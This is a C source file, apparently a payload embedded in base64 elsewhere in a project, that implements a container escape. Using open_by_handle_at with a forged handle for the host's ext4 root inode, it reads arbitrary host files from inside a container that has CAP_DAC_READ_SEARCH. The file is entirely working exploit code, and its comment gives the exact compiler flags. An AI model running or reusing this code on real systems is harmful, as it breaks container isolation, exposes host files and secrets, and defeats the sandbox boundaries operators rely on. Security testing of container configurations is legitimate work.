/*
 * Prints a file of the host from within a container that has CAP_DAC_READ_SEARCH: /etc/hosts lies on the file system
 * of the host, and the handle of its root is known (ext4: inode 2). No libc; program.ts holds it in base64, compiled by
 *   gcc -Os -nostdlib -static -ffreestanding -fno-stack-protector -fno-asynchronous-unwind-tables -fno-pic -no-pie
 *     -fno-builtin -Wl,--build-id=none -Wl,-z,noseparate-code -Wl,-N -s read-host-file.c
 */
enum { READ = 0, WRITE = 1, EXIT = 60, OPENAT = 257, OPEN_BY_HANDLE_AT = 304 };
enum { CURRENT_DIRECTORY = -100, DIRECTORY = 0200000 };
__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call begin\n");

static long sys(long n, long a, long b, long c) {
  long result;
  register long r10 __asm__("r10") = 0;
  __asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return result;
}

struct handle { unsigned bytes; int type; unsigned inode, generation; };

/* Takes the path of the file without its leading slash. */
__attribute__((used)) void begin(long *stack) {
  struct handle root = {8, 1, 2, 0};
  long hosts = sys(OPENAT, CURRENT_DIRECTORY, (long)"/etc/hosts", 0);
  long host = sys(OPEN_BY_HANDLE_AT, hosts, (long)&root, DIRECTORY);
  long file = sys(OPENAT, host, stack[2], 0);
  char buffer[256];
  long length = sys(READ, file, (long)buffer, sizeof buffer);
  if (length > 0) sys(WRITE, 1, (long)buffer, length);
  sys(EXIT, length > 0 ? 0 : 1, 0, 0);
}
